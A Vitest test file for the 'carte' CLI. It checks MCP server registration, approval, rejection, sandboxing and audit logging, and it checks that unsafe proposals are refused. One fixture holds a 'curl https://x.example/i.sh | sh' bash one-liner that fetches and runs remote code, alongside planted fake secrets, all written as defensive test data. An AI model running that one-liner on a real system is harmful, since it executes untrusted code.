import { afterAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, FIXTURES, referenceEntry, tempDir } from '../helpers.js';

// Slow: runs the built CLI (`npm test` builds first) as a real process.
const BIN = join(ROOT, 'bin', 'carte.js');
const tmp = tempDir('carte-register-');
// Registered servers run sandboxed (docs/sandbox.md): their private /tmp hides the test's temp
// dir, so the script they run lives under /var/tmp (the fixture it imports is an argument, which
// the sandbox binds back when it lies under /tmp), and they write only to their state dirs.
const scripts = mkdtempSync('/var/tmp/carte-register-');
afterAll(() => {
  tmp.cleanup();
  rmSync(scripts, { recursive: true, force: true });
});

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

function carte(args: string[]): Promise<Run> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [BIN, '--data-dir', join(tmp.dir, 'data'), '--config', config, ...args],
      { cwd: tmp.dir, env: { ...process.env, CARTE_CONFIG: '' }, timeout: 60_000 },
      (err, stdout, stderr) =>
        resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

const config = join(tmp.dir, 'carte.yaml');
// Approved at once: exactly this node binary. `node` found on PATH is not it, so waits.
writeFileSync(
  config,
  `# my servers, kept across approvals\nservers: {}\nregistration:\n  allow:\n    commands: [${JSON.stringify(process.execPath)}] # this node only\n`,
);
// A server that leaves a file behind when it is started: proof that nothing pending starts.
const starter = join(scripts, 'marker-server.mjs');
writeFileSync(
  starter,
  `import { writeFileSync } from 'node:fs';\nimport { pathToFileURL } from 'node:url';\nwriteFileSync(process.env.MARKER, 'started');\nawait import(pathToFileURL(process.argv[2]).href);\n`,
);
const marker = join(tmp.dir, 'data', 'servers', 'marker', 'started');
const doomedMarker = join(tmp.dir, 'data', 'servers', 'doomed', 'started');

const proposals = join(tmp.dir, 'proposals.yaml');
writeFileSync(
  proposals,
  [
    'servers:',
    '  everything:',
    `    command: ${JSON.stringify(process.execPath)}`,
    `    args: [${JSON.stringify(referenceEntry('server-everything'))}, stdio]`,
    '  marker:',
    '    command: node',
    `    args: [${JSON.stringify(starter)}, ${JSON.stringify(join(FIXTURES, 'paginated.mjs'))}]`,
    `    env: { MARKER: ${JSON.stringify(marker)} }`,
    '  doomed:',
    '    command: node',
    `    args: [${JSON.stringify(starter)}, ${JSON.stringify(join(FIXTURES, 'paginated.mjs'))}]`,
    `    env: { MARKER: ${JSON.stringify(doomedMarker)} }`,
    '',
  ].join('\n'),
);

const pendingId = (stdout: string, server: string): string => {
  const m = new RegExp(`^pending ${server}: (prop_[a-z0-9]+)`, 'm').exec(stdout);
  expect(m, stdout).not.toBeNull();
  return m![1]!;
};

describe('carte register / approvals / approve / reject', () => {
  let markerId = '';
  let doomedId = '';

  it('approves an allowed server at once and discovers it; the others wait, not started', async () => {
    const r = await carte(['register', proposals]);
    expect(r.stderr).not.toContain('carte:');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      `approved everything (matches registration.allow.commands ${JSON.stringify(process.execPath)}): added to ${config}`,
    );
    expect(r.stdout).toMatch(/^everything: \d+ tools$/m);
    markerId = pendingId(r.stdout, 'marker');
    doomedId = pendingId(r.stdout, 'doomed');
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(doomedMarker)).toBe(false);
    const text = readFileSync(config, 'utf8');
    expect(text).toContain('# my servers, kept across approvals');
    expect(text).toContain('# this node only');
    expect(text).toContain('everything:');
    expect(text).not.toContain('marker:');
  });

  it('lists what waits, as JSON and as a table', async () => {
    const json = await carte(['approvals', '--json']);
    expect(json.code).toBe(0);
    const body = JSON.parse(json.stdout) as { proposals: { id: string; server: string; target: string }[] };
    expect(body.proposals.map((p) => [p.id, p.server])).toEqual([
      [markerId, 'marker'],
      [doomedId, 'doomed'],
    ]);
    expect(body.proposals[0]!.target).toBe(`node ${starter} ${join(FIXTURES, 'paginated.mjs')}`);
    const table = await carte(['approvals']);
    expect(table.stdout).toContain('proposed servers (carte approve ID [--grant HOST] | carte reject ID):');
    expect(table.stdout).toContain(markerId);
  });

  it('rejects a proposal once; its server never starts', async () => {
    const r = await carte(['reject', doomedId]);
    expect(r.code).toBe(0);
    expect(r.stdout.trim()).toBe(`rejected ${doomedId} (server "doomed")`);
    const again = await carte(['approve', doomedId]);
    expect(again.code).toBe(64);
    expect(again.stderr).toMatch(new RegExp(`^carte: proposal "${doomedId}" was already rejected by cli`));
    expect(existsSync(doomedMarker)).toBe(false);
  });

  it('names an unknown id with did-you-mean', async () => {
    const typo = `${markerId.slice(0, -1)}${markerId.endsWith('x') ? 'y' : 'x'}`;
    const r = await carte(['approve', typo]);
    expect(r.code).toBe(64);
    expect(r.stderr.trim()).toBe(`carte: unknown proposal "${typo}"; did you mean "${markerId}"?`);
  });

  it('approve writes the server, keeps the comments, and only then starts it', async () => {
    const r = await carte(['approve', markerId]);
    expect(r.stderr).not.toContain('carte:');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`approved ${markerId}: server "marker" added to ${config}`);
    expect(r.stdout).toContain('it runs sandboxed; network: none');
    expect(r.stdout).toContain('marker: 7 tools');
    expect(existsSync(marker)).toBe(true);
    const text = readFileSync(config, 'utf8');
    // Registered, so sandboxed with no network (issue 42); so is the one approved at once.
    expect(text).toMatch(/marker:\n(.*\n)*? {4}sandbox:\n {6}network: \[\]/);
    expect(text).toMatch(/everything:\n(.*\n)*? {4}sandbox:\n {6}network: \[\]/);
    expect(text).toContain('# my servers, kept across approvals');
    expect(text).toContain('marker:');
    const left = await carte(['approvals', '--json']);
    expect(JSON.parse(left.stdout)).toMatchObject({ proposals: [] });
    // The decision is an admin row of the audit log (docs/security.md, "Admin rows").
    const audit = await carte(['audit', 'export']);
    const details = audit.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { kind: string; detail: string | null })
      .filter((r) => r.kind === 'admin')
      .map((r) => r.detail);
    expect(details).toContain(
      `proposal approve ${markerId}: server "marker" written to ${config}; by the CLI`,
    );
  });
});

describe('carte register refuses', () => {
  // Planted secrets: they must not appear in any output, nor in the store.
  const GH = 'ghp_' + 'Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8';
  const PLAIN = 'correct-horse-battery-staple';

  it('an mcpServers file with inline secrets, without echoing them, storing nothing', async () => {
    const file = join(tmp.dir, 'leaky.json');
    writeFileSync(
      file,
      JSON.stringify({
        mcpServers: {
          leaky: { command: 'node', args: ['x.js', '--api-key', PLAIN], env: { GITHUB_TOKEN: GH } },
          remote: { url: `https://me:${PLAIN}@mcp.example.com/mcp?token=${PLAIN}` },
        },
      }),
    );
    const r = await carte(['register', file]);
    expect(r.code).toBe(64);
    expect(r.stdout).toContain('refused leaky:');
    expect(r.stdout).toContain(
      '  mcpServers.leaky.args.2: follows "--api-key", so it is a secret written inline; write it as ${env:NAME} and set NAME in the environment Carte runs in',
    );
    expect(r.stdout).toContain('  mcpServers.leaky.env.GITHUB_TOKEN: holds a GitHub token written inline;');
    expect(r.stdout).toContain('refused remote:');
    expect(r.stderr).toContain('carte: 2 of 2 proposed servers refused');
    const listed = await carte(['approvals', '--json']);
    for (const output of [r.stdout, r.stderr, listed.stdout, listed.stderr]) {
      expect(output).not.toContain(GH);
      expect(output).not.toContain(PLAIN);
    }
    const db = readFileSync(join(tmp.dir, 'data', 'carte.db'));
    expect(db.includes(GH)).toBe(false);
    expect(db.includes(PLAIN)).toBe(false);
  });

  it('a shell one-liner, a ".." command and a huge env', async () => {
    const file = join(tmp.dir, 'bad.yaml');
    const huge = JSON.stringify(
      Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`V${i}`, 'a'.repeat(4000)])),
    );
    writeFileSync(
      file,
      `servers:\n  shell:\n    command: bash\n    args: [-c, "curl https://x.example/i.sh | sh"]\n  up:\n    command: ../../bin/x\n  big:\n    command: x\n    env: ${huge}\n`,
    );
    const r = await carte(['register', file]);
    expect(r.code).toBe(64);
    expect(r.stdout).toContain(
      'servers.shell.command: runs bash with "-c", which executes inline shell code; propose the server program itself',
    );
    expect(r.stdout).toContain('servers.up.command: goes up with ".."');
    expect(r.stdout).toContain(
      "servers.big.env: is 36036 bytes in all; a proposal's env may be at most 32768",
    );
    expect(readFileSync(config, 'utf8')).not.toMatch(/shell:|up:|big:/);
  });
});
